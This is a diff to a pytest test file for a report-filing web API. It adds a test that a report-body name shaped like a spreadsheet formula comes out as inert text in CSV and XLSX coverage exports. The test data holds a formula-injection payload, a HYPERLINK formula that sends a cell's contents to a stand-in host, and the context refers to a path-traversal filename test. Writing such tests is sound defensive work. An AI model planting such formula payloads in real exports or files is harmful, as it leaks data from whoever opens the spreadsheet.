@@ -3,8 +3,12 @@ answers /healthz straight after."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import zipfile
 
+import openpyxl
 import pytest
 from conftest import SEEDS, seed_report_json
 from fixtures.documents import docx_2021, pdf_2021, pdf_encrypted
@@ -134,3 +138,22 @@ def test_filename_with_dot_dot_and_nul(client, session):
     stored = [p for p in get_settings().file_store.rglob("*") if p.is_file()]
     assert all(p.resolve().is_relative_to(get_settings().file_store.resolve()) for p in stored)
     assert not any("passwd" in p.name for p in stored)
+
+
+def test_a_body_named_like_a_formula_is_text_in_every_export(client):
+    """The body's name reaches a supervisor's spreadsheet through the coverage export."""
+    organ = '=HYPERLINK("http://example.invalid/?"&A1,"第十师北屯市")'
+    report = seed_report_json(SEED) | {"organ": organ, "year": 2024, "region_code": "659005000000"}
+    assert client.post("/api/v1/reports", json=report).status_code == 201
+    params = {"region": "659005", "year": 2024, "tree": "xpcc"}
+
+    exported = client.get("/api/v1/coverage", params=params | {"format": "csv"}).content.decode("utf-8-sig")
+    names = [row[1] for row in csv.reader(io.StringIO(exported))]
+    assert names == ["机关", "'" + organ]
+
+    exported = client.get("/api/v1/coverage", params=params | {"format": "xlsx"}).content
+    with zipfile.ZipFile(io.BytesIO(exported)) as book:
+        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()  # no formula anywhere
+    sheet = openpyxl.load_workbook(io.BytesIO(exported)).active
+    assert sheet.cell(2, 2).value == organ and sheet.cell(2, 2).data_type == "s"
+    assert client.get("/healthz").json() == {"status": "ok"}
